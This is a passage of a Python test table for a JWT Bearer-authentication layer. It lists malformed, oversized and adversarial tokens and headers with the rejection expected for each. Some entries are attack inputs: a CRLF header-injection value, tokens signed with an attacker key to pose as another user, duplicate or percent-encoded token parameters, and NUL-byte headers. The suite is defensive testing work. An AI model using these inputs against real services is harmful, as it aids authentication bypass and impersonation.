    jwe_head = b64url(b'{"alg":"RSA-OAEP","enc":"A256GCM","kid":"rsa-1"}')
    add("jwe-five-segments", f"{jwe_head}.{'A' * 342}.{'B' * 16}.{'C' * 40}.{'D' * 22}", MALFORMED)
    dir_head = seg({"alg": "dir", "enc": "A128GCM"})
    add("jwe-dir-five-segments", f"{dir_head}..{'B' * 16}.{'C' * 40}.{'D' * 22}", MALFORMED)
    general = json.dumps({"payload": p, "signatures": [{"protected": h, "signature": s}]})
    flattened = json.dumps({"payload": p, "protected": h, "signature": s})
    add("json-general-serialization", None, BAD_HEADER, headers=(auth(f"Bearer {general}"),))
    add("json-flattened-serialization", None, BAD_HEADER, headers=(auth(f"Bearer {flattened}"),))
    add("json-serialization-base64url", b64url(flattened.encode()), MALFORMED)

    # ---- oversized and deeply nested ------------------------------------------------
    family("size")
    add("oversized-token-cap-plus-1", "A" * (MAX_TOKEN_BYTES + 1), TOO_LARGE)
    add("oversized-token-1mb", f"{h}.{'A' * 1_000_000}.{s}", TOO_LARGE)
    add(
        "oversized-cookie",
        None,
        TOO_LARGE,
        headers=((b"cookie", f"access_token={'A' * (MAX_TOKEN_BYTES + 1)}".encode()),),
    )
    add("oversized-query", None, TOO_LARGE, query="access_token=" + "A" * (MAX_TOKEN_BYTES + 1))
    add(
        "oversized-query-percent-encoded",
        None,
        TOO_LARGE,
        query="access_token=" + "%41" * (MAX_TOKEN_BYTES + 1),
    )
    add("size-at-cap-garbage", "A" * 4000 + "." + "A" * (MAX_TOKEN_BYTES - 4002) + ".", MALFORMED)
    # Python < 3.12 stops parsing JSON about 1000 levels deep (RecursionError: a
    # malformed token); newer ones parse any depth that fits under the size cap.
    # Either way only a validly signed payload gets parsed at all.
    deep = MALFORMED if sys.version_info < (3, 12) else accept()
    nested = json.dumps(claims())[:-1] + ', "x": ' + "[" * 2000 + "]" * 2000 + "}"
    add("nested-payload-lists-2000", signed(nested.encode()), deep)
    nested_obj = json.dumps(claims())[:-1] + ', "x": ' + '{"":' * 1050 + "1" + "}" * 1050 + "}"
    add("nested-payload-objects-1050", signed(nested_obj.encode()), deep)
    add(
        "nested-header-within-2kb",
        header_token({"alg": "RS256", "kid": "rsa-1", "x": json.loads("[" * 500 + "]" * 500)}),
        accept(),
    )
    add(
        "nested-header-over-2kb",
        header_token({"alg": "RS256", "kid": "rsa-1", "x": json.loads("[" * 900 + "]" * 900)}),
        MALFORMED,
    )
    add("many-claims", signed(claims(**{f"c{i}": i for i in range(400)})), accept())

    # ---- every odd shape of the Authorization header (RFC 9110 §11, RFC 6750 §2.1) ---
    family("authorization")
    t = VALID
    for name, value, expect in [
        ("no-scheme", t, MISSING),
        ("scheme-only", "Bearer", bad_request("missing token")),
        ("scheme-and-space", "Bearer ", bad_request("missing token")),
        ("empty-value", "", BAD_HEADER),
        ("only-spaces", "   ", BAD_HEADER),
        ("two-spaces", f"Bearer  {t}", accept()),
        ("surrounding-spaces", f"  Bearer {t}  ", accept()),
        ("tab-separator", f"Bearer\t{t}", BAD_HEADER),
        ("space-then-tab", f"Bearer \t{t}", accept()),
        ("lowercase-scheme", f"bearer {t}", accept()),
        ("uppercase-scheme", f"BEARER {t}", accept()),
        ("mixed-case-scheme", f"BeArEr {t}", accept()),
        ("comma-two-tokens", f"Bearer {t}, Bearer {t}", BAD_HEADER),
        ("comma-suffix", f"Bearer {t},", BAD_HEADER),
        ("comma-auth-param", f"Bearer {t}, realm=api", BAD_HEADER),
        ("colon-after-scheme", f"Bearer: {t}", BAD_HEADER),
        ("equals-after-scheme", f"Bearer={t}", BAD_HEADER),
        ("token-then-garbage", f"Bearer {t} extra", BAD_HEADER),
        ("quoted-token", f'Bearer "{t}"', BAD_HEADER),
        ("basic", "Basic YWxpY2U6c2VjcmV0", MISSING),
        ("basic-carrying-jwt", f"Basic {t}", MISSING),
        ("digest", 'Digest username="alice", realm="api"', MISSING),
        ("token-scheme", f"Token {t}", MISSING),
        ("jwt-scheme", f"JWT {t}", MISSING),
        ("bearer-prefix-scheme", f"Bearerx {t}", MISSING),
        ("nul-after-token", f"Bearer {t}\x00", BAD_HEADER),
        ("nul-before-scheme", f"\x00Bearer {t}", BAD_HEADER),
        ("newline-after-token", f"Bearer {t}\n", BAD_HEADER),
        ("crlf-injection", f"Bearer {t}\r\nX-Admin: 1", BAD_HEADER),
        ("vertical-tab", f"Bearer\x0b{t}", BAD_HEADER),
        ("latin1-in-token", f"Bearer {t}\xe9", BAD_HEADER),
        ("nbsp-separator", f"Bearer\xa0{t}", BAD_HEADER),
    ]:
        add(f"authz-{name}", None, expect, headers=(auth(value),))
    add(
        "authz-utf8-cyrillic-scheme", None, BAD_HEADER, headers=(auth(f"B\u0435arer {t}".encode()),)
    )
    add("authz-utf8-emoji-token", None, BAD_HEADER, headers=(auth(f"Bearer {t}🔑".encode()),))
    add("authz-padding-equals-token68", f"{t}==", MALFORMED)
    add(
        "authz-header-x-authorization",
        None,
        MISSING,
        headers=((b"x-authorization", f"Bearer {t}".encode()),),
    )
    add(
        "authz-header-proxy-authorization",
        None,
        MISSING,
        headers=((b"proxy-authorization", f"Bearer {t}".encode()),),
    )
    combined = bad_request("more than one authorization header")
    add(
        "authz-two-headers-same-token",
        None,
        combined,
        headers=(auth(f"Bearer {t}"), auth(f"Bearer {t}")),
        wsgi=BAD_HEADER,
    )
    add(
        "authz-two-headers-bearer-then-basic",
        None,
        combined,
        headers=(auth(f"Bearer {t}"), auth("Basic YQ==")),
        wsgi=BAD_HEADER,
    )
    # Combined by a WSGI server into "Basic …, Bearer …": not a Bearer header at all.
    add(
        "authz-two-headers-basic-then-bearer",
        None,
        combined,
        headers=(auth("Basic YQ=="), auth(f"Bearer {t}")),
        wsgi=MISSING,
    )
    add(
        "authz-two-headers-valid-then-forged",
        None,
        combined,
        headers=(auth(f"Bearer {t}"), auth(f"Bearer {signed(key=ATTACKER_RSA)}")),
        wsgi=BAD_HEADER,
    )

    # ---- tokens in several places at once (RFC 6750 §2) ------------------------------
    family("places")
    forged = signed(claims(sub="mallory"), key=ATTACKER_RSA)
    cookie = b"cookie"
    add(
        "places-header-and-query",
        t,
        bad_request("more than one token in the request"),
        query=f"access_token={t}",
    )
    add(
        "places-two-query-params",
        None,
        bad_request("more than one token in the query"),
        query=f"access_token={t}&access_token={t}",
    )
    add(
        "places-query-name-percent-encoded-twice",
        None,
        bad_request("more than one token in the query"),
        query=f"access_token={t}&access%5Ftoken={forged}",
    )
    add("places-query-only", None, accept(), query=f"access_token={t}")
    # An empty access_token is a token sent empty: 400, as docs/errors.md lists (#15).
    add("places-query-empty-value", None, bad_request("missing token"), query="access_token=")
    add("places-cookie-only", None, accept(), headers=((cookie, f"access_token={t}".encode()),))
    add("places-cookie-quoted", None, accept(), headers=((cookie, f'access_token="{t}"'.encode()),))
    add("places-cookie-forged", None, SIG, headers=((cookie, f"access_token={forged}".encode()),))
    add(
        "places-header-valid-cookie-forged",
        None,
        accept(),
        headers=(auth(f"Bearer {t}"), (cookie, f"access_token={forged}".encode())),
    )
    add(
        "places-header-forged-cookie-valid",
        None,
        SIG,
        headers=(auth(f"Bearer {forged}"), (cookie, f"access_token={t}".encode())),
    )
    add(
        "places-two-cookies-first-wins",
        None,
        SIG,
        headers=((cookie, f"access_token={forged}; access_token={t}".encode()),),
    )
    add(
        "places-two-cookie-headers",
        None,
        accept(),
        headers=(
            (cookie, f"access_token={t}".encode()),
            (cookie, f"access_token={forged}".encode()),
        ),
    )
    # A cookie is not held to token68: a non-ASCII one reaches the verifier.
    latin1 = f"access_token={t}\xe9".encode("latin-1")
    add("places-cookie-non-ascii", None, MALFORMED, headers=((cookie, latin1),))
    add(
        "places-basic-header-and-cookie",
        None,
        accept(),
        headers=(auth("Basic YQ=="), (cookie, f"access_token={t}".encode())),
    )
    add(
        "places-cookie-valid-query-forged",
        None,
        accept(),
        headers=((cookie, f"access_token={t}".encode()),),
        query=f"access_token={forged}",
    )


def _der_of(token: str) -> bytes:
    from cryptography.hazmat.primitives.asymmetric import ec
    from jwt.utils import base64url_decode, raw_to_der_signature

    return raw_to_der_signature(base64url_decode(token.split(".")[2]), ec.SECP256R1())


def _rsa_modulus() -> bytes:
    public = serialization.load_pem_public_key(pem("rsa_public").encode())
    assert isinstance(public, rsa.RSAPublicKey)
    return public.public_numbers().n.to_bytes(256, "big")


_build()
CASES: tuple[Case, ...] = tuple(_CASES)
assert len({c.id for c in CASES}) == len(CASES), "case ids must be unique"


def params() -> list[Any]:
    """The table as ``pytest.param(case, id=case.id)`` rows."""
    return [pytest.param(case, id=case.id) for case in CASES]


def profile_settings(profile: str, **overrides: Any) -> dict[str, Any]:
    """The settings dict of ``profile`` with ``overrides``."""
    return {**PROFILES[profile], **overrides}


__all__ = ["CASES", "PROFILES", "Case", "Expect", "params", "profile_settings"]
